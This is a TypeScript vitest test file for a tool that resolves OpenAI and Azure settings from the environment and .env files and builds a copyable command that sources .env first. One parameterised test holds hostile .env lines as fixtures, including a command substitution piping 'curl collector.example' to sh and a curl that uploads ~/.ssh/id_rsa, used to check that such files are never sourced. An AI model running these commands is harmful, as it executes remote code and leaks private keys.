import {describe, expect, test} from 'vitest';
import {execa} from 'execa';
import {mkdtemp, rm, writeFile} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {appBaseUrl, appEnvironment, appSettings, describeBaseUrlSource, loadDotenvFirst} from '../../../source/core/local/app-settings.js';
import {dotenvProbe, type DotenvProbeData} from '../../../source/core/probes/dotenv.js';
import type {ProbeResult} from '../../../source/core/types.js';
import {makeAzureKey, makeProjectKey} from '../../helpers/fake-keys.js';
import {makePorts} from '../../helpers/fake-ports.js';
import {context} from '../../helpers/probe-context.js';

const project = '/home/dev/project';

async function dotenvResult(files: Record<string, string>): Promise<ProbeResult> {
	const all: Record<string, string> = {[`${project}/.git/HEAD`]: 'ref'};
	for (const [name, text] of Object.entries(files)) all[`${project}/${name}`] = text;
	const outcome = await dotenvProbe.run(context(makePorts({cwd: project, files: all}), []));
	return {...outcome, id: 'dotenv', step: 2, durationMs: 1};
}

const defaults = {baseUrl: 'https://api.openai.com/v1', baseUrlSource: 'default' as const};

describe('app settings: what the app gets from the environment and a loaded .env', () => {
	test('a .env gives the base URL, organization and Azure endpoint the environment lacks, with their lines', async () => {
		const dotenv = await dotenvResult({'.env': `OPENAI_API_KEY=${makeProjectKey(1)}\nOPENAI_BASE_URL=https://litellm.acme.dev/v1/\nOPENAI_ORG_ID=org-fromdotenv\nAZURE_OPENAI_ENDPOINT=https://res.openai.azure.com/\n`});
		const results = new Map([['dotenv', dotenv]]);
		const settings = appSettings({}, results);
		expect(settings.get('OPENAI_BASE_URL')).toEqual({value: 'https://litellm.acme.dev/v1/', source: 'file:.env:2'});
		expect(settings.get('OPENAI_ORG_ID')).toEqual({value: 'org-fromdotenv', source: 'file:.env:3'});
		expect(appEnvironment({}, results).AZURE_OPENAI_ENDPOINT).toBe('https://res.openai.azure.com/');
		expect(appBaseUrl(defaults, {}, results)).toEqual({url: 'https://litellm.acme.dev/v1', source: 'file:.env:2'});
		expect(describeBaseUrlSource('file:.env:2')).toBe('OPENAI_BASE_URL in .env:2');
	});

	test('the environment wins over .env (loaders keep an existing variable), and --base-url over both', async () => {
		const results = new Map([['dotenv', await dotenvResult({'.env': 'OPENAI_BASE_URL=https://from-dotenv.example/v1\n'})]]);
		expect(appSettings({OPENAI_BASE_URL: 'https://from-env.example/v1'}, results).get('OPENAI_BASE_URL')!.source).toBe('env:OPENAI_BASE_URL');
		expect(appBaseUrl({baseUrl: 'https://from-env.example/v1', baseUrlSource: 'env:OPENAI_BASE_URL'}, {OPENAI_BASE_URL: 'https://from-env.example/v1'}, results).source).toBe('env:OPENAI_BASE_URL');
		expect(appBaseUrl({baseUrl: 'http://127.0.0.1:9/v1', baseUrlSource: 'flag'}, {}, results)).toEqual({url: 'http://127.0.0.1:9/v1', source: 'flag'});
	});

	test('with load_dotenv(override=True) in the code, .env wins over the environment', async () => {
		const dotenv = await dotenvResult({'.env': 'OPENAI_BASE_URL=https://from-dotenv.example/v1\n', 'main.py': 'from dotenv import load_dotenv\nload_dotenv(override=True)\n'});
		expect((dotenv.data as DotenvProbeData).override).toBeDefined();
		const results = new Map([['dotenv', dotenv]]);
		expect(appBaseUrl({baseUrl: 'https://from-env.example/v1', baseUrlSource: 'env:OPENAI_BASE_URL'}, {OPENAI_BASE_URL: 'https://from-env.example/v1'}, results).url).toBe('https://from-dotenv.example/v1');
	});

	test('Next.js order: .env.local before .env', async () => {
		const dotenv = await dotenvResult({
			'package.json': JSON.stringify({dependencies: {next: '15.0.0'}}),
			'.env': 'OPENAI_BASE_URL=https://from-env-file.example/v1\n',
			'.env.local': 'OPENAI_BASE_URL=https://from-env-local.example/v1\n',
		});
		expect(appSettings({}, new Map([['dotenv', dotenv]])).get('OPENAI_BASE_URL')).toEqual({value: 'https://from-env-local.example/v1', source: 'file:.env.local:1'});
	});

	test('a .env that nothing loads gives no settings: python code without load_dotenv() calls the default host', async () => {
		const dotenv = await dotenvResult({'.env': 'OPENAI_BASE_URL=https://oai.helicone.ai/v1\n', 'main.py': 'from openai import OpenAI\nclient = OpenAI()\n'});
		expect(appBaseUrl(defaults, {}, new Map([['dotenv', dotenv]]))).toEqual({url: 'https://api.openai.com/v1', source: 'default'});
		expect(dotenv.details!.join('\n')).toMatch(/OPENAI_BASE_URL in \.env not counted: no code or script here loads \.env/);
	});

	test('node’s dotenv/config reads only the project folder’s .env; python-dotenv walks up to parents', async () => {
		const nested = '/home/dev/repo/packages/api';
		const files = {'/home/dev/repo/.git/HEAD': 'ref', '/home/dev/repo/.env': 'OPENAI_BASE_URL=https://from-parent.example/v1\n'};
		const node = await dotenvProbe.run(context(makePorts({cwd: nested, files: {...files, [`${nested}/index.js`]: "import 'dotenv/config';\n"}}), []));
		const python = await dotenvProbe.run(context(makePorts({cwd: nested, files: {...files, [`${nested}/main.py`]: 'from dotenv import load_dotenv\nload_dotenv()\n'}}), []));
		const base = (outcome: typeof node) => appBaseUrl(defaults, {}, new Map([['dotenv', {...outcome, id: 'dotenv', step: 2 as const, durationMs: 1}]])).url;
		expect(base(node)).toBe('https://api.openai.com/v1');
		expect(base(python)).toBe('https://from-parent.example/v1');
	});

	test.each([
		['a package.json script with node --env-file', {'package.json': JSON.stringify({scripts: {start: 'node --env-file=.env server.js'}}), 'server.js': 'new OpenAI()\n'}],
		['a Makefile that sources it', {Makefile: 'run:\n\tset -a; . ./.env; set +a; python main.py\n', 'main.py': 'OpenAI()\n'}],
		['Next.js, which loads .env itself', {'package.json': JSON.stringify({dependencies: {next: '15.0.0'}}), 'app/page.ts': 'new OpenAI()\n'}],
		['Nuxt, which loads .env itself', {'package.json': JSON.stringify({dependencies: {nuxt: '3.14.0'}}), 'server/api/chat.ts': 'new OpenAI()\n'}],
		['a Go program with godotenv', {'main.go': 'package main\nimport "github.com/joho/godotenv"\nfunc main() { godotenv.Load() }\n'}],
		['a notebook with %dotenv', {'analysis.ipynb': JSON.stringify({cells: [{source: ['%load_ext dotenv\n', '%dotenv\n']}]})}],
		['a Makefile that runs docker with --env-file', {Makefile: 'run:\n\tdocker run --env-file .env app\n', 'main.py': 'OpenAI()\n'}],
	])('settings count when %s', async (_name, files) => {
		const dotenv = await dotenvResult({...files, '.env': 'OPENAI_BASE_URL=https://gw.example/v1\n'});
		expect(appBaseUrl(defaults, {}, new Map([['dotenv', dotenv]])).url).toBe('https://gw.example/v1');
	});

	test('AZURE_OPENAI_API_KEY in .env is a key source (by fingerprint), never a setting value', async () => {
		const azureKey = makeAzureKey(3);
		const dotenv = await dotenvResult({'.env': `AZURE_OPENAI_API_KEY=${azureKey}\nAZURE_OPENAI_ENDPOINT=https://res.openai.azure.com/\n`});
		expect(dotenv.keys).toEqual([expect.objectContaining({variable: 'AZURE_OPENAI_API_KEY', source: 'file:.env:1', origin: 'dotenv'})]);
		expect(JSON.stringify(dotenv.data)).not.toContain(azureKey);
	});

	test('a copyable command loads the .env first when this shell lacks the key, and a real sh then has it', async () => {
		const key = makeProjectKey(31);
		const dotenv = await dotenvResult({'.env': `# comment\nOPENAI_API_KEY="${key}"\n`});
		const results = new Map([['dotenv', dotenv]]);
		const command = loadDotenvFirst('printf %s "$OPENAI_API_KEY"', {}, results);
		expect(command).toBe('(set -a; . ./.env; set +a; printf %s "$OPENAI_API_KEY")');
		expect(loadDotenvFirst('printf %s "$OPENAI_API_KEY"', {OPENAI_API_KEY: key}, results)).toBe('printf %s "$OPENAI_API_KEY"');
		const folder = await mkdtemp(path.join(tmpdir(), 'kw-dotenv-first-'));
		await writeFile(path.join(folder, '.env'), `# comment\nOPENAI_API_KEY="${key}"\n`);
		const run = await execa('sh', ['-c', command], {cwd: folder, env: {PATH: process.env.PATH!}, extendEnv: false});
		expect(run.stdout === key).toBe(true);
		await rm(folder, {recursive: true, force: true});
	});

	test.each([
		['a command substitution', 'OPENAI_API_KEY=sk-x\nNAME=$(curl -s collector.example | sh)\n'],
		['backquotes', 'OPENAI_API_KEY=sk-x\nNAME=`id`\n'],
		['a command after a semicolon', 'OPENAI_API_KEY=sk-x; curl collector.example\n'],
		['spaces around =, which runs NAME as a command', 'OPENAI_API_KEY = sk-x\n'],
		['a bare command line', 'OPENAI_API_KEY=sk-x\ncurl -d @~/.ssh/id_rsa collector.example\n'],
		['PATH, which would pick the curl that runs', 'OPENAI_API_KEY=sk-x\nPATH=./bin\n'],
		['a proxy for curl', 'OPENAI_API_KEY=sk-x\nhttps_proxy=http://collector.example:8080\n'],
		['a CA bundle for curl', 'OPENAI_API_KEY=sk-x\nCURL_CA_BUNDLE=./ca.pem\n'],
		['a variable expanded in double quotes', 'OPENAI_API_KEY="${HOME}"\n'],
		['history expansion in double quotes', 'OPENAI_API_KEY="sk-x!!"\n'],
	])('never loads a .env first that holds %s', async (_name, text) => {
		const results = new Map([['dotenv', await dotenvResult({'.env': text, 'main.py': 'load_dotenv()\n'})]]);
		expect(loadDotenvFirst('curl -H "Authorization: Bearer $OPENAI_API_KEY"', {}, results)).toBe('curl -H "Authorization: Bearer $OPENAI_API_KEY"');
	});

	test('loads a .env of plain assignments first, comments, quotes and export included', async () => {
		const text = `# the app's settings\nexport OPENAI_API_KEY='${makeProjectKey(8)}'\nDATABASE_URL="postgres://db:5432/app" # local\nDEBUG=1\n\n`;
		const results = new Map([['dotenv', await dotenvResult({'.env': text, 'main.py': 'load_dotenv()\n'})]]);
		expect(loadDotenvFirst('curl "$OPENAI_API_KEY"', {}, results)).toBe('(set -a; . ./.env; set +a; curl "$OPENAI_API_KEY")');
	});

	test('never loads a .env first that anyone could have written (a world-writable folder’s)', async () => {
		const cwd = '/tmp/app';
		const outcome = await dotenvProbe.run(
			context(makePorts({cwd, files: {'/tmp/.env': `OPENAI_API_KEY=${makeProjectKey(9)}\n`, [`${cwd}/main.py`]: 'load_dotenv()\n'}, stats: {'/tmp': {mode: 0o1777, uid: 0}}}), []),
		);
		const results = new Map([['dotenv', {...outcome, id: 'dotenv', step: 2 as const, durationMs: 1}]]);
		expect((outcome.data as DotenvProbeData).loader.order).toEqual(['../.env']);
		expect(loadDotenvFirst('curl -H "Authorization: Bearer $OPENAI_API_KEY"', {}, results)).toBe('curl -H "Authorization: Bearer $OPENAI_API_KEY"');
	});
});
